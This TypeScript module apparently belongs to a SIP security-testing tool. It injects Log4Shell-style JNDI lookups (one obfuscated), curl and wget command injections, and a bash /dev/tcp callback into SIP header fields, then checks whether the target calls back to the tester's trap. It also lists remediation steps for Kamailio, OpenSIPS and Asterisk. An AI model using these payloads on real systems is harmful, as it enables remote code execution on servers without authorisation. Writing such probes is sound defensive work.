import { attack } from '../attack.ts'
import { field, plusLast } from '../malformed/edit.ts'
import { statusFor } from '../probing.ts'

/** What runs or looks up, where text goes through a shell, a template or a library that logs; each calls us back. */
const CALLS: Readonly<Record<string, (at: string, host: string, port: number) => string>> = {
  'a look-up of a directory': at => `\${jndi:ldap://${at}/a}`,
  'a look-up of a directory in disguise': at => `\${\${lower:j}ndi:\${lower:l}dap://${at}/b}`,
  'a look-up of a URL': at => `\${url:UTF-8:http://${at}/c}`,
  'a command in a dollar': at => `$(curl -s http://${at}/d)`,
  'a command in backticks': at => `\`wget -q http://${at}/e\``,
  'a command behind a semicolon': at => `;curl -s http://${at}/f;`,
  'a command behind a pipe': at => `|curl -s http://${at}/g`,
  'a shell of its own': (_, host, port) => `$(bash -c 'echo > /dev/tcp/${host}/${port}')`,
}

const PLACES: Readonly<Record<string, (text: string, put: string) => string>> = {
  'User-Agent': (text, put) => field(text, 'User-Agent', () => put),
  'the display name of From': (text, put) => field(text, 'From', value => `"${put}" ${value}`),
  'the display name of To': (text, put) => field(text, 'To', value => `"${put}" ${value}`),
  Subject: (text, put) => plusLast(text, `Subject: ${put}`),
}

/** Text that becomes a command or a look-up where somebody logs or runs it: a call back to us is the proof. */
export const shellAndLookups = attack({
  id: 'shell-and-lookups',
  entry: 'B05',
  title: 'puts shell commands and look-ups of logging libraries into fields',
  threats: ['software-bugs', 'malformed-messages'],
  clause: '§3.1, unauthorized access by malicious messages',
  references: ['RFC 3261 §26.1'],
  severity: 'critical',
  isIntrusive: false,
  maxMessages: 100,
  needs: [],
  expected: 'Nothing that the target runs calls the address that the text names.',
  mending: {
    aspis: 'On by default: text of peers is neither run nor expanded; nothing turns it off.',
    kamailio:
      'Pass nothing from messages to `exec_msg()`, `exec_dset()` or `exec_avp()` but through the environment, in quotes.',
    opensips: 'Pass nothing from messages to `exec()` but through its standard input or environment.',
    asterisk:
      'Pass nothing from messages to `System()`, `SHELL()` or AGI but through `FILTER()`; leave `live_dangerously=no`.',
  },
  async run(trial) {
    const trap = await trial.trap('trap')
    const at = `${trap.at.ip}:${trap.at.port}`
    const tries = Object.entries(CALLS).flatMap(([what, call]) =>
      Object.values(PLACES).map(put => ({ what, put, text: call(at, trap.at.ip, trap.at.port) })),
    )
    const uri = `sip:${trial.target.domain}`
    const answers = await Promise.all(
      tries.map(({ put, text }, index) => {
        const method = index % 2 === 0 ? 'REGISTER' : 'OPTIONS'
        return statusFor(trial, asker => put(asker.text({ method, uri, contact: false }), text))
      }),
    )
    await trial.pause(3 * trial.silenceMs)
    const answered = answers.filter(answer => answer !== 'silence').length
    const counts = { tried: tries.length, answered, calls: trap.connections }
    if (trap.connections > 0)
      return trial.succeeded(
        `of ${tries.length} texts with a command or look-up, ${trap.connections} called back`,
        counts,
      )
    if (answered === 0) return trial.inconclusive(`none of ${tries.length} requests was answered`, counts)
    return trial.resisted(
      `none of ${tries.length} texts with a command or look-up called back within ${3 * trial.silenceMs} ms; ${answered} were answered`,
      counts,
    )
  },
})
